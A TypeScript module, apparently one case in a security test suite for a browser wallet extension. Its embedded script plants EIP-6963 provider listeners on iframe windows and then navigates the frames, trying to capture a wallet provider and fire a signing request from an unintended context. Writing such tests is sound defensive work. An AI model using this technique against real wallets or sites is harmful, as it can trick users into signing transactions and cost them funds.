import type { Attack } from './kit/attack.ts'
import { PROVIDER_KNOWN_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'frames',
  how: "Listens on a fresh frame's window for announcements, then loads a page into it that keeps the window and its listeners.",
  script: `
    const use = (event) => { try { event.detail.provider.request(attack.sign).catch(() => {}) } catch {} }
    const frames = [attack.frame(), attack.frame({ src: attack.frameUrl })]
    for (const { contentWindow } of frames) contentWindow.addEventListener('eip6963:announceProvider', use, true)
    frames[0].src = attack.frameUrl
    for (let i = 0; i < 10; i++) {
      await attack.sleep(50)
      for (const { contentWindow } of frames) contentWindow.dispatchEvent(new contentWindow.Event('eip6963:requestProvider'))
    }
  `,
  frame: 'ethereum.request(attack.sign)',
  open: { 'wallet-before': PROVIDER_KNOWN_FIRST },
} satisfies Attack
